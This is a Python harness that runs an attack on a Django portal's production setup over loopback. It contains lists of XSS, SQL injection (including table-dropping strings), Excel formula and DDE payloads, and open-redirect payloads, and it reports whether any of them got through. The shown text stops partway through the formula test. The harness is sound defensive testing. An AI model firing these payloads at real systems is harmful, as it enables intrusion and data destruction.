"""Attack run: the production mode as deployed (nginx in front of gunicorn with 2 workers, a Celery
worker and beat, PostgreSQL, Redis) attacked over loopback, and a table of what got through.

    DATABASE_URL=postgres://postgres@127.0.0.1:5432/unionplan_attack REDIS_URL=redis://127.0.0.1:6379/13 \
        .venv/bin/python bench/attack.py [--port 8775] [--upstream-port 8774] [--max-seconds 900]

Starts the portal the way bin/smoke_production.py does (its nginx, same settings), on the database
named by DATABASE_URL (emptied first: give it one of its own), imports the 2020 plan, a hostile
plan (markup, formulas and quotes in its titles and department names) and the demo accounts, then:

  self-approval       a head approves their own report (API and form); the next reviewer does
  cross-department    reports, reviews, dashboards, set-up and instructions of other departments
  stored XSS          markup in narratives, comments, instructions, replies, names, file names and
                      imported titles; every page reachable by four users crawled for it unescaped
  SQL injection       classic and time-based payloads in every filter, search, ordering and form field
  CSRF                state changes without a token, with another session's, from another origin
  open redirects      next= of log-in, log-out and language change, admin log-in
  hostile queries     ?year=² ?plan=② thirty digits, 2020-02-30, NUL, 5,000 characters
  formulas            the Excel bulletins of a plan and reports whose texts start with = + - @
  forged XFF          40 wrong passwords with a new X-Forwarded-For each; forging another PC
  slow clients        more slow sockets than workers (headers and bodies) while others browse
  oversized bodies    512 MB to the log-in page, 1 GB to the reports API: refused unread, no spool
  concurrent submits  two reports on one item with the same version, 30 rounds
  closed plan         filling, publishing and reporting after the plan is closed

and prints one row per attack: requests, leaks (something got through that must not), 5xx, lost
(a write answered as saved that is not in the database). Loopback only; every attack has a fixed
count and the whole run a time limit. Exits non-zero unless every column is 0.
"""

from __future__ import annotations

import argparse
import concurrent.futures
import datetime
import io
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import zoneinfo
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "bin"))

import smoke_production as production  # noqa: E402  (bin/ is not a package)

PY = sys.executable
SITE = production.SITE
PASSWORD = "unionplan2020"  # departments.demo.DEMO_PASSWORD
MARK = "XSS1337"
XSS = [
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"'><svg onload={MARK}()>",
    f"javascript:{MARK}()",
    f"</textarea><iframe src=javascript:{MARK}()>",
    f"{{{{ {MARK} }}}}{{% debug %}}",
]
# What an unescaped payload looks like in HTML (escaped ones read &lt;script&gt; or &quot;&gt;).
XSS_RENDERED = re.compile(rf"<(script|img|svg|iframe)[^>]*{MARK}|<script>{MARK}|href=\"javascript:{MARK}")
HOSTILE_PLAN = (
    "攻击测试总工会2021年工作要点\n2021年的总体要求是：稳中求进。\n"
    "一、=1+1思想引领<script>XSS1337()</script>\n"
    '1.=HYPERLINK("http://evil.example/","点击")强化理论武装<img src=x onerror=XSS1337()>。（责任部室：@SUM部）\n'
    "2.+做好宣传工作，年内创建X家示范点。（责任部室：@SUM部、-2+3办）\n"
    "3.\"'><svg onload=XSS1337()>推进工作。（责任部室：-2+3办）\n"
)
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
SQL = [
    "'", "''", "\"", "\\", "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "1 OR 1=1", "1' OR '1'='1' --",
    "') OR ('1'='1", "1)) OR ((1=1", "admin'--", "1; SELECT pg_sleep(3)--", "1' AND pg_sleep(3)--",
    "1 AND (SELECT 1 FROM pg_sleep(3))", "'||pg_sleep(3)||'", "1 UNION SELECT username, password FROM auth_user--",
    "' UNION SELECT NULL,NULL,NULL--", "1 ORDER BY 99--", "; DROP TABLE tasks_workitem;--", "$$; SELECT 1; $$",
    "%27%20OR%201=1", "\x00'", "1e999", "-1 OR id>0", "title); DELETE FROM auth_user; --",
    "(SELECT password FROM auth_user LIMIT 1)", "CAST(version() AS int)", "1::int", "extractvalue(1,concat(1,version()))",
]
SQL_ERRORS = re.compile(r"syntax error|psycopg|ProgrammingError|DataError|pbkdf2_sha256\$|Traceback|unterminated quoted",
                        re.IGNORECASE)
REDIRECTS = [
    "https://evil.example/", "//evil.example/", "///evil.example/", "/\\evil.example", "\\\\evil.example",
    "https:evil.example", f"http://{SITE}@evil.example/", "/%2F%2Fevil.example", "javascript:alert(1)",
    f"http://evil.example%2F@{SITE}", "%09//evil.example", f"https://evil.example%23.{SITE}", "\t//evil.example",
    "http:\\\\evil.example", "//evil%E3%80%82example", "/%5Cevil.example", "https://evil.example\\@" + SITE,
    "data:text/html,<script>alert(1)</script>", "http://[::1]:22/", "https://127.0.0.1.evil.example/",
]
HOSTILE_VALUES = ["²", "①", "٢٠٢٠", "9" * 30, "2020-02-30", "-1", "\x00", "a" * 5000, "1e3", "1.5", "[]", "%00"]


@dataclass
class Row:
    attack: str
    requests: int = 0
    leaks: int = 0
    server_errors: int = 0
    lost: int = 0
    notes: list[str] = field(default_factory=list)

    def leak(self, what: str) -> None:
        self.leaks += 1
        if len(self.notes) < 6:
            self.notes.append(f"LEAK {what}")


class TimeUp(Exception):
    pass


class Run:
    """The portal under attack and the rows of the table."""

    def __init__(self, args):
        self.args = args
        self.port, self.upstream_port = args.port, args.upstream_port
        self.deadline = time.monotonic() + args.max_seconds
        self.rows: list[Row] = []
        self.var = tempfile.mkdtemp(prefix="unionplan-attack-")
        self.env: dict[str, str] = {}
        self.processes = []
        self.ids: dict = {}
        self.tokens: dict[str, str] = {}
        self.crashed = False

    # --- the portal ---------------------------------------------------------------------
    def start(self) -> None:
        database, redis = os.environ.get("DATABASE_URL", ""), os.environ.get("REDIS_URL", "")
        for url, what in ((database, "DATABASE_URL"), (redis, "REDIS_URL")):
            host = urllib.parse.urlsplit(url).hostname
            if host not in ("127.0.0.1", "localhost", "::1"):
                raise SystemExit(f"{what} must name a service on loopback (it is {url!r})")
        for port in (self.port, self.upstream_port):
            if production.port_in_use(port):
                raise SystemExit(f"port {port} is in use; give --port / --upstream-port of your own")
        name = urllib.parse.urlsplit(database).path.lstrip("/")
        subprocess.run(["dropdb", "-h", "127.0.0.1", "-U", "postgres", "--if-exists", name], check=True)
        subprocess.run(["createdb", "-h", "127.0.0.1", "-U", "postgres", name], check=True)
        self.env = production.production_env(self.var) | {
            "SECURE_SSL_REDIRECT": "True", "ALLOWED_HOSTS": SITE, "TRUSTED_PROXY_HOPS": "1",
            "TRUSTED_PROXIES": "127.0.0.1", "UNIONPLAN_EVIDENCE_ACCEL_REDIRECT": "/_evidence/", "LOG_LEVEL": "WARNING",
        }
        hostile = Path(self.var) / "hostile-plan.txt"
        hostile.write_text(HOSTILE_PLAN, encoding="utf-8")
        for args in (["migrate", "--noinput"], ["collectstatic", "--noinput"],
                     ["import_plan", "tasks/plans/2020-city-union-work-plan.txt"], ["seed_demo"],
                     # after the demo accounts, which are made for the 2020 plan's departments (d01 = 办公室)
                     ["import_plan", str(hostile)],
                     # departments report only on a published plan (its 待定 targets would stop the publish step)
                     ["shell", "-c", "from tasks.models import WorkPlan; WorkPlan.objects.update(status=WorkPlan.Status.PUBLISHED)"]):
            subprocess.run([PY, "manage.py", *args], cwd=ROOT, env=self.env, check=True, capture_output=True)
        # A person whose name is markup (names come from the people upload).
        self.shell("from django.contrib.auth import get_user_model; "
                   f"get_user_model().objects.filter(username='d02-staff').update(first_name={XSS[1]!r})")
        self.web_log = open(Path(self.var) / "web.log", "w")
        self.processes = [production.start_web(self.env, port=self.upstream_port, log=self.web_log),
                          production.start_worker(self.env, log=open(Path(self.var) / "worker.log", "w")),
                          production.start_beat(self.env, var=self.var)]
        self.processes.append(production.start_proxy(var=self.var, port=self.port, upstream_port=self.upstream_port))
        if production.wait_ready(self.browser()) != 200:
            raise SystemExit(f"the portal did not become ready; logs in {self.var}")
        for username in ("admin", "leader", "d01-staff", "d01-head", "d02-staff", "d02-head", "d10-staff"):
            self.tokens[username] = self.token(username)
        self.load_ids()

    def stop(self) -> None:
        production.stop(self.processes)

    def shell(self, code: str) -> str:
        result = subprocess.run([PY, "manage.py", "shell", "-c", code], cwd=ROOT, env=self.env, capture_output=True,
                                text=True, check=True)
        return result.stdout.strip().splitlines()[-1] if result.stdout.strip() else ""

    def sql(self, query: str) -> str:
        return subprocess.run(["psql", os.environ["DATABASE_URL"], "-tAc", query], capture_output=True, text=True,
                              check=True).stdout.strip()

    # --- clients --------------------------------------------------------------------------
    def browser(self, port: int | None = None, source: str | None = None) -> production.Browser:
        return production.Browser(port or self.port, host=SITE, source=source)

    def token(self, username: str) -> str:
        status, _, body = self.browser().request("POST", "/api/v1/auth/token/", {"username": username,
                                                                                  "password": PASSWORD})
        if status != 200:
            raise SystemExit(f"no API token for {username}: {status}")
        return json.loads(body)["token"]

    def send(self, row: Row, browser, method, path, form=None, **kwargs):
        """One request of an attack, counted; a 5xx is noted with its path."""
        if time.monotonic() > self.deadline:
            raise TimeUp
        row.requests += 1
        try:
            status, location, body = browser.request(method, path, form, **kwargs)
        except (OSError, http_client_errors()) as error:
            row.notes.append(f"{method} {path[:60]}: {type(error).__name__}")
            return 0, None, ""
        if status >= 500:
            row.server_errors += 1
            if len(row.notes) < 6:
                row.notes.append(f"{status} {method} {path[:80]}")
        return status, location, body

    def api(self, row: Row, username, method, path, body=None, **kwargs):
        headers = {"Authorization": f"Token {self.tokens[username]}", **kwargs.pop("headers", {})}
        status, location, text = self.send(row, self.browser(), method, f"/api/v1/{path}", json_body=body,
                                           headers=headers, **kwargs)
        try:
            return status, json.loads(text) if text else None
        except ValueError:
            return status, None

    def logged_in(self, username: str) -> production.Browser:
        browser = self.browser()
        browser.log_in(username, PASSWORD, expect=None)
        return browser

    def load_ids(self) -> None:
        row = Row("set-up")
        _, plans = self.api(row, "admin", "GET", "plans/?page_size=200")
        self.ids["plans"] = {plan["year"]: plan["id"] for plan in plans["results"]}
        # dNN-staff's department, for N = 1…10 (the demo accounts follow the 2020 plan's departments)
        self.ids["departments"] = [int(self.sql(
            "SELECT m.department_id FROM departments_membership m JOIN auth_user u ON u.id = m.user_id "
            f"WHERE u.username = 'd{n:02d}-staff'")) for n in range(1, 11)]
        items = []
        for year in (2020, 2021):
            _, page = self.api(row, "admin", "GET", f"items/?plan={self.ids['plans'][year]}&page_size=200")
            items += page["results"]
        self.ids["items"] = {(2020 if item["plan"] == self.ids["plans"][2020] else 2021, item["number"]): item
                             for item in items}
        self.ids["office"] = self.ids["departments"][0]  # 办公室

    def item(self, k: int, year: int = 2020) -> dict:
        """2020: the k-th item 办公室 (d01) answers for, counting round (the attacks report as d01);
        2021: item number k of the hostile plan."""
        if year == 2021:
            return self.ids["items"][(2021, k)]
        office = [item for (y, _n), item in sorted(self.ids["items"].items()) if y == 2020 and self.ids["office"] in
                  {r["department"] for r in item["responsibilities"]}]
        return office[(k - 1) % len(office)]

    def fresh_version(self, row: Row, item: dict) -> int:
        _, fresh = self.api(row, "admin", "GET", f"items/{item['id']}/")
        return fresh["version"]

    def submit(self, row: Row, username: str, item: dict, *, narrative: str = "按计划推进。",
               department: int | None = None) -> dict | None:
        body = {"item": item["id"], "status": "in_progress", "percent": 40, "narrative": narrative,
                "version": self.fresh_version(row, item)}
        if department:
            body["department"] = department
        status, report = self.api(row, username, "POST", "reports/", body)
        return report if status == 201 else None

    # --- the table ------------------------------------------------------------------------
    def attack(self, name: str):
        row = Row(name)
        self.rows.append(row)
        return row

    def print_table(self) -> bool:
        lines = ["| attack | requests | leaks | 5xx | lost | note |", "|---|---:|---:|---:|---:|---|"]
        for row in self.rows:
            lines.append(f"| {row.attack} | {row.requests:,} | {row.leaks} | {row.server_errors} | {row.lost} | "
                         f"{'; '.join(row.notes)} |")
        total = Row("**all**", sum(r.requests for r in self.rows), sum(r.leaks for r in self.rows),
                    sum(r.server_errors for r in self.rows), sum(r.lost for r in self.rows))
        log = self.web_log_errors()
        lines.append(f"| **all** | {total.requests:,} | {total.leaks} | {total.server_errors} | {total.lost} | "
                     f"web log: {log['5xx']} responses ≥ 500, {log['timeouts']} WORKER TIMEOUT |")
        print("\n".join(lines))
        return not (total.leaks or total.server_errors or total.lost or log["5xx"] or log["timeouts"] or self.crashed)

    def web_log_errors(self) -> dict[str, int]:
        self.web_log.flush()
        found = {"5xx": 0, "timeouts": 0}
        for line in open(Path(self.var) / "web.log", encoding="utf-8", errors="replace"):
            if "WORKER TIMEOUT" in line:
                found["timeouts"] += 1
            try:
                if int(json.loads(line).get("status", 0)) >= 500:
                    found["5xx"] += 1
            except ValueError:
                pass
        return found


def http_client_errors():
    import http.client

    return http.client.HTTPException


# ---------------------------------------------------------------------------
# The attacks.


def self_approval(run: Run) -> None:
    row = run.attack("self-approval (API and form)")
    office = run.ids["office"]
    for number in (1, 2, 3):
        report = run.submit(row, "d01-head", run.item(number), department=office)
        if report is None:
            row.notes.append(f"item {number}: the head could not report")
            continue
        status, _ = run.api(row, "d01-head", "POST", f"reports/{report['id']}/review/", {"decision": "approve"})
        if status != 403:
            row.leak(f"the head reviewed their own report through the API ({status})")
        _, queue = run.api(row, "d01-head", "GET", "reports/?to_review=true")
        if any(r["id"] == report["id"] for r in queue["results"]):
            row.leak("the head's own report is in their queue")
        _, queue = run.api(row, "admin", "GET", "reports/?to_review=true&page_size=200")
        if not any(r["id"] == report["id"] for r in queue["results"]):
            row.lost += 1
            row.notes.append("the report reached nobody's queue")
    head = run.logged_in("d01-head")
    number = 4
    _, _, form = run.send(row, head, "GET", f"/items/{run.item(number)['id']}/report/")
    version = re.search(r'name="version" value="(\d+)"', form).group(1)
    status, _, _ = run.send(row, head, "POST", f"/items/{run.item(number)['id']}/report/", {
        "csrfmiddlewaretoken": head.csrf(form), "status": "in_progress", "percent": "45", "narrative": "负责人报送。",
        "version": version, "department": str(office)})
    _, reports = run.api(row, "admin", "GET", f"reports/?item={run.item(number)['id']}&state=submitted")
    mine = [r for r in reports["results"] if r["narrative"] == "负责人报送。"]
    if status != 302 or not mine:
        row.lost += 1
        row.notes.append(f"the form report was not saved ({status})")
        return
    _, _, page = run.send(row, head, "GET", f"/items/{run.item(number)['id']}/")
    if f'action="/reports/{mine[0]["id"]}/review/"' in page:
        row.leak("the head is shown review buttons on their own report")
    if "待计划管理员审核" not in page:
        row.leak("the item page does not say who reviews it")
    status, _, _ = run.send(row, head, "POST", f"/reports/{mine[0]['id']}/review/", {
        "csrfmiddlewaretoken": head.csrf(page), "decision": "approve", "comment": "自己通过"})
    if status != 403:
        row.leak(f"the head approved their own report through the form ({status})")
    status, body = run.api(row, "admin", "POST", f"reports/{mine[0]['id']}/review/", {"decision": "approve"})
    if status != 200:
        row.lost += 1
        row.notes.append(f"the next reviewer in line could not approve ({status})")
    status, _ = run.api(row, "admin", "POST", f"reports/{mine[0]['id']}/review/", {"decision": "approve"})
    if status != 409:
        row.leak(f"a second review answered {status}, not 409")


def cross_department(run: Run) -> None:
    row = run.attack("cross-department checks")
    departments = run.ids["departments"]
    d10 = departments[9]
    foreign = [item for key, item in run.ids["items"].items()
               if key[0] == 2020 and d10 not in {r["department"] for r in item["responsibilities"]}][:10]
    staff10 = run.logged_in("d10-staff")
    for item in foreign:
        status, _ = run.api(row, "d10-staff", "POST", "reports/", {"item": item["id"], "status": "in_progress",
                                                                     "percent": 10, "narrative": "越权", "version": item["version"]})
        if status != 403:
            row.leak(f"d10 reported on item {item['number']} ({status})")
        status, _, _ = run.send(row, staff10, "GET", f"/items/{item['id']}/report/")
        if status != 403:
            row.leak(f"d10 opened the report form of item {item['number']} ({status})")
    reports = [run.submit(row, "d01-staff", run.item(number), department=run.ids["office"]) for number in (5, 6, 7, 8, 9)]
    head2 = run.logged_in("d02-head")
    for report in filter(None, reports):
        status, _ = run.api(row, "d02-head", "POST", f"reports/{report['id']}/review/", {"decision": "approve"})
        if status != 403:
            row.leak(f"d02's head reviewed d01's report ({status})")
        _, _, page = run.send(row, head2, "GET", "/reviews/")
        status, _, _ = run.send(row, head2, "POST", f"/reports/{report['id']}/review/", {
            "csrfmiddlewaretoken": head2.csrf(page) if "csrfmiddlewaretoken" in page else "", "decision": "approve"})
        if status != 403:
            row.leak(f"d02's head reviewed d01's report through the form ({status})")
    staff2 = run.logged_in("d02-staff")
    for department in departments:
        if department == departments[1]:
            continue
        status, _, _ = run.send(row, staff2, "GET", f"/dashboard/departments/{department}/")
        if status != 403:
            row.leak(f"d02-staff saw department {department}'s page ({status})")
    plan = run.ids["plans"][2020]
    for path in ("/dashboard/", "/dashboard/bulletin.xlsx", "/dashboard/bulletin.docx", "/manage/plans/",
                 "/manage/people/", "/manage/departments/", f"/manage/plans/{plan}/setup/"):
        status, _, _ = run.send(row, staff2, "GET", path)
        if status != 403:
            row.leak(f"staff opened {path} ({status})")
    _, _, page = run.send(row, staff2, "GET", "/my/")
    status, _, _ = run.send(row, staff2, "POST", f"/manage/plans/{plan}/close/",
                            {"csrfmiddlewaretoken": staff2.csrf(page) if "csrfmiddlewaretoken" in page else ""})
    if status != 403:
        row.leak(f"staff closed the plan through the page ({status})")
    target = next(t for item in run.ids["items"].values() for t in item["targets"])
    for method, path, body in (("GET", f"plans/{plan}/rollup/", None), ("POST", f"plans/{plan}/close/", None),
                               ("POST", f"plans/{plan}/publish/", None),
                               ("POST", f"targets/{target['id']}/fill/", {"target_value": "9"}),
                               ("POST", "instructions/", {"item": run.item(1)["id"], "text": "越权批示"})):
        status, _ = run.api(row, "d02-staff", method, path, body)
        if status != 403:
            row.leak(f"staff {method} {path} ({status})")
    status, instruction = run.api(row, "leader", "POST", "instructions/", {"item": run.item(1)["id"], "text": "请加快。"})
    if status == 201:
        status, _ = run.api(row, "d10-staff", "POST", f"instructions/{instruction['id']}/reply/", {"reply": "越权答复"})
        if status != 403:
            row.leak(f"d10 answered an instruction to d01 ({status})")
    anonymous = run.browser()
    status, _, _ = run.send(row, anonymous, "GET", "/api/v1/items/")
    if status != 401:
        row.leak(f"anonymous API read ({status})")
    status, location, _ = run.send(row, anonymous, "GET", f"/items/{run.item(1)['id']}/")
    if status != 302 or "/accounts/login/" not in (location or ""):
        row.leak(f"anonymous page read ({status})")


def multipart(fields, files):
    return production.multipart(fields, files)


def stored_xss(run: Run) -> None:
    row = run.attack("stored XSS (pages crawled)")
    # payloads wherever a user writes text
    for n, payload in enumerate(XSS):
        report = run.submit(row, "d01-staff", run.item(10 + n), narrative=f"进展{payload}")
        if report and n % 2:
            run.api(row, "d01-head", "POST", f"reports/{report['id']}/review/", {"decision": "return",
                                                                                  "comment": f"退回{payload}"})
        status, instruction = run.api(row, "leader", "POST", "instructions/", {"item": run.item(10 + n)["id"],
                                                                               "text": f"批示{payload}"})
        if status == 201:
            run.api(row, "d01-staff", "POST", f"instructions/{instruction['id']}/reply/", {"reply": f"答复{payload}"})
    content = b"%PDF-1.4\nxss"
    content_type, body = multipart({"item": str(run.item(16)["id"]), "status": "in_progress", "percent": "20",
                                    "narrative": "附件", "version": str(run.fresh_version(row, run.item(16)))},
                                   [("evidence", f"{XSS[1]}.pdf", content)])
    run.send(row, run.browser(), "POST", "/api/v1/reports/", body=body,
             headers={"Authorization": f"Token {run.tokens['d01-staff']}", "Content-Type": content_type})
    # crawl
    starts = ["/", "/my/", "/reviews/", "/dashboard/", "/brands/", "/notifications/", "/plans/", "/manage/plans/",
              "/manage/people/", "/manage/departments/", f"/plans/{run.ids['plans'][2021]}/", "/admin/"]
    skip = re.compile(r"/accounts/logout|/i18n/|/evidence/|\.xlsx|\.docx|/delete/|/static/|/api/v1/schema|"
                      r"/history/|/admin/(jsi18n|logout)|/_evidence/")
    items = [f"/items/{item['id']}/" for _key, item in sorted(run.ids["items"].items())]
    pages = shown = 0
    for username, limit in (("leader", 200), ("admin", 260), ("d01-staff", 120), ("d01-head", 120),
                            ("d02-staff", 100)):
        browser = run.logged_in(username)
        seen, queue = set(), starts + items
        while queue and len(seen) < limit:
            path = queue.pop(0)
            if path in seen or skip.search(path):
                continue
            seen.add(path)
            status, _, page = run.send(row, browser, "GET", path)
            if status != 200 or "<html" not in page[:300].lower():
                continue
            pages += 1
            shown += MARK in page
            if XSS_RENDERED.search(page):
                row.leak(f"{path} renders markup as {username}")
            for link in re.findall(r'href="(/[^"#]*)"', page):
                link = link.replace("&amp;", "&")
                if link not in seen and not link.startswith("//"):
                    queue.append(link)
    row.notes.append(f"{pages} HTML pages as 5 users, {shown} of them showing a payload (escaped); "
                     f"{len(XSS)} payloads in 8 kinds of field")
    if not shown:
        row.lost += 1  # the payloads were not stored: the crawl proved nothing


def sql_injection(run: Run) -> None:
    row = run.attack("SQL injection")
    plan = run.ids["plans"][2020]
    section = run.item(1)["section"]
    api_params = [("items/", "search"), ("items/", "ordering"), ("items/", "plan"), ("items/", "department"),
                  ("items/", "status"), ("items/", "light"), ("items/", "due_before"), ("items/", "section"),
                  ("reports/", "item"), ("reports/", "state"), ("reports/", "ordering"), ("reports/", "department"),
                  ("departments/", "search"), ("departments/", "parent"), ("instructions/", "plan"),
                  ("targets/", "kind"), ("targets/", "item"), ("sections/", "plan"), ("plans/", "organization"),
                  ("plans/", "year"), ("plans/", "ordering"), ("items/", "page")]
    page_params = [("/dashboard/", "year"), (f"/dashboard/sections/{section}/", "department"),
                   (f"/dashboard/sections/{section}/", "light"), ("/brands/", "plan"), ("/notifications/", "page"),
                   ("/dashboard/bulletin.docx", "from"), (f"/dashboard/departments/{run.ids['office']}/", "light")]
    leader = run.logged_in("leader")
    for payload in SQL:
        for path, name in api_params:
            started = time.monotonic()
            # searches within the 2020 plan, whose texts hold no quotes (the hostile plan's do)
            scope = f"plan={plan}&" if (path, name) == ("items/", "search") else ""
            status, body = run.api(row, "leader", "GET", f"{path}?{scope}{urllib.parse.urlencode({name: payload})}")
            if time.monotonic() - started > 2.5:
                row.leak(f"{path}?{name}= took {time.monotonic() - started:.1f} s (a sleep ran)")
            # A payload of quotes alone is an empty search term to DRF (all rows, as with no search);
            # any other payload is text no row holds: a match means the SQL ran.
            if name == "search" and status == 200 and body["count"] > 0 and re.sub(r"[\s'\"\\]", "", payload):
                row.leak(f"{path}?search={payload!r} matched {body['count']}")
            if body and SQL_ERRORS.search(json.dumps(body, ensure_ascii=False)):
                row.leak(f"{path}?{name}= shows a database error")
        for path, name in page_params:
            started = time.monotonic()
            status, _, page = run.send(row, leader, "GET", f"{path}?{urllib.parse.urlencode({name: payload})}")
            if time.monotonic() - started > 2.5 or SQL_ERRORS.search(page[:20000]):
                row.leak(f"{path}?{name}= ({time.monotonic() - started:.1f} s)")
        # log-in form and token endpoint: the payload as a username (each a username of its own: no lock-out)
        anonymous = run.browser()
        _, _, page = run.send(row, anonymous, "GET", "/accounts/login/")
        status, _, _ = run.send(row, anonymous, "POST", "/accounts/login/", {
            "csrfmiddlewaretoken": anonymous.csrf(page), "username": payload, "password": payload})
        if status == 302:
            row.leak(f"log-in with {payload!r}")
        status, _, _ = run.send(row, run.browser(), "POST", "/api/v1/auth/token/", {"username": payload,
                                                                                     "password": payload})
        if status == 200:
            row.leak(f"a token for {payload!r}")
    for payload in SQL[:12]:
        report = run.submit(row, "d01-staff", run.item(17), narrative=payload)
        if report is None:
            row.lost += 1
        status, _ = run.api(row, "leader", "POST", "instructions/", {"item": run.item(17)["id"], "text": payload})
        if status != 201:
            row.lost += 1
    users = run.sql("SELECT count(*) FROM auth_user")
    items = run.sql(f"SELECT count(*) FROM tasks_workitem w JOIN tasks_section s ON s.id = w.section_id "
                    f"WHERE s.plan_id = {plan}")
    if users == "0" or items == "0":
        row.leak("rows were deleted")
    row.notes.append(f"{len(SQL)} payloads × {len(api_params) + len(page_params) + 2} parameters")


def csrf(run: Run) -> None:
    row = run.attack("CSRF attempts")
    before = run.sql("SELECT count(*) FROM tasks_progressreport")
    staff, other = run.logged_in("d01-staff"), run.logged_in("d01-head")
    _, _, other_page = run.send(row, other, "GET", "/my/")
    other_token = other.csrf(other_page)
    admin = run.logged_in("admin")
    plan = run.ids["plans"][2021]
    target = run.item(2, 2021)["targets"][0]["id"]
    variants = [
        ("no token", lambda form, page: form, {}),
        ("wrong token", lambda form, page: form | {"csrfmiddlewaretoken": "x" * 64}, {}),
        ("another session's token", lambda form, page: form | {"csrfmiddlewaretoken": other_token}, {}),
        ("foreign Referer", lambda form, page: form | {"csrfmiddlewaretoken": staff.csrf(page)},
         {"Referer": "https://evil.example/form"}),
        ("foreign Origin", lambda form, page: form | {"csrfmiddlewaretoken": staff.csrf(page)},
         {"Origin": "https://evil.example"}),
        ("no Referer", lambda form, page: form | {"csrfmiddlewaretoken": staff.csrf(page)}, {"Referer": ""}),
        ("http Referer", lambda form, page: form | {"csrfmiddlewaretoken": staff.csrf(page)},
         {"Referer": f"http://{SITE}/"}),
        ("token without its cookie", lambda form, page: form | {"csrfmiddlewaretoken": staff.csrf(page)}, "nocookie"),
    ]
    for label, make, headers in variants:
        for number in range(20, 26):
            item = run.item(number)
            _, _, page = run.send(row, staff, "GET", f"/items/{item['id']}/report/")
            form = {"status": "in_progress", "percent": "66", "narrative": f"CSRF {label}",
                    "version": re.search(r'name="version" value="(\d+)"', page).group(1)}
            cookies = dict(staff.cookies)
            if headers == "nocookie":
                staff.cookies.pop("csrftoken", None)
            status, _, _ = run.send(row, staff, "POST", f"/items/{item['id']}/report/", make(form, page),
                                    headers=headers if isinstance(headers, dict) else None)
            staff.cookies = cookies
            if status != 403:
                row.leak(f"report with {label} ({status})")
        _, _, page = run.send(row, admin, "GET", f"/manage/plans/{plan}/setup/")
        for path, form in ((f"/manage/plans/{plan}/close/", {}), (f"/manage/plans/{plan}/publish/", {}),
                           (f"/manage/targets/{target}/", {f"t{target}-value": "3"})):
            admin_form = make(form, page)
            if "csrfmiddlewaretoken" in admin_form and label not in ("wrong token", "another session's token"):
                admin_form["csrfmiddlewaretoken"] = admin.csrf(page)
            cookies = dict(admin.cookies)
            if headers == "nocookie":
                admin.cookies.pop("csrftoken", None)
            status, _, _ = run.send(row, admin, "POST", path, admin_form,
                                    headers=headers if isinstance(headers, dict) else None)
            admin.cookies = cookies
            if status not in (403, 404, 405):
                row.leak(f"{path} with {label} ({status})")
    # the API with the browser's session and no CSRF token
    for number in range(20, 26):
        status, _, _ = run.send(row, staff, "POST", "/api/v1/reports/", json_body={
            "item": run.item(number)["id"], "status": "in_progress", "percent": 1, "narrative": "CSRF API",
            "version": run.fresh_version(row, run.item(number))})
        if status != 403:
            row.leak(f"API write with the session and no token ({status})")
    after = run.sql("SELECT count(*) FROM tasks_progressreport")
    status = run.sql(f"SELECT status FROM tasks_workplan WHERE id = {plan}")
    if after != before:
        row.leak(f"{int(after) - int(before)} reports were written")
    if status != "draft":
        row.leak(f"the plan became {status}")


def open_redirects(run: Run) -> None:
    row = run.attack("open redirects")
    for target in REDIRECTS:
        browser = run.browser()
        _, _, page = run.send(row, browser, "GET", f"/accounts/login/?{urllib.parse.urlencode({'next': target})}")
        status, location, _ = run.send(row, browser, "POST", f"/accounts/login/?{urllib.parse.urlencode({'next': target})}",
                                       {"csrfmiddlewaretoken": browser.csrf(page), "username": "d06-staff",
                                        "password": PASSWORD, "next": target})
        _check_location(row, "log-in", status, location)
        _, _, page = run.send(row, browser, "GET", "/my/")
        token = browser.csrf(page) if "csrfmiddlewaretoken" in page else ""
        status, location, _ = run.send(row, browser, "POST", "/i18n/setlang/", {
            "csrfmiddlewaretoken": token, "language": "zh-hans", "next": target})
        _check_location(row, "language", status, location)
        status, location, _ = run.send(row, browser, "POST", f"/accounts/logout/?{urllib.parse.urlencode({'next': target})}",
                                       {"csrfmiddlewaretoken": token, "next": target})
        _check_location(row, "log-out", status, location)
        status, location, _ = run.send(row, run.browser(), "GET",
                                       f"/admin/login/?{urllib.parse.urlencode({'next': target})}")
        _check_location(row, "admin log-in", status, location)


def _check_location(row: Row, what: str, status: int, location: str | None) -> None:
    if status not in (301, 302, 303) or not location:
        return
    parts = urllib.parse.urlsplit(location.strip())
    if location.strip().startswith(("//", "/\\", "\\")) or parts.scheme not in ("", "https", "http") or (
            parts.netloc and parts.netloc != SITE):
        row.leak(f"{what} redirected to {location[:60]}")


def hostile_queries(run: Run) -> None:
    row = run.attack("hostile query strings")
    section = run.item(1)["section"]
    urls = [("/dashboard/", "year"), (f"/dashboard/departments/{run.ids['office']}/", "year"),
            (f"/dashboard/sections/{section}/", "department"), (f"/dashboard/sections/{section}/", "light"),
            ("/dashboard/bulletin.xlsx", "year"), ("/dashboard/bulletin.docx", "year"),
            ("/dashboard/bulletin.docx", "from"), ("/dashboard/bulletin.docx", "to"), ("/brands/", "plan"),
            ("/notifications/", "page"), ("/api/v1/items/", "plan"), ("/api/v1/items/", "page"),
            ("/api/v1/reports/", "to_review"), ("/api/v1/departments/", "is_active"), ("/api/v1/plans/", "year"),
            ("/api/v1/items/", "page_size"), ("/api/v1/targets/", "placeholder")]
    leader = run.logged_in("leader")
    for value in HOSTILE_VALUES:
        for path, name in urls:
            query = urllib.parse.urlencode({name: value}) if value != "%00" else f"{name}=%00"
            headers = {"Authorization": f"Token {run.tokens['leader']}"} if path.startswith("/api/") else None
            status, _, _ = run.send(row, leader, "GET", f"{path}?{query}", headers=headers)
            if path.startswith("/api/") and value in ("²", "①", "1.5", "[]") and status != 400 and name != "page":
                row.leak(f"{path}?{name}={value!r} answered {status}, not 400")


def formulas(run: Run) -> None:
    import openpyxl

    row = run.attack("Excel formula injection")
    for n, text in enumerate(FORMULAS):
        report = run.submit(row, "d01-staff", run.item(26 + n), narrative=text)
        if report:
            status, _ = run.api(row, "d01-head", "POST", f"reports/{report['id']}/review/", {"decision": "approve"})
            if status != 200:
                row.lost += 1
    co_item = next(item for key, item in run.ids["items"].items() if key[0] == 2020 and any(
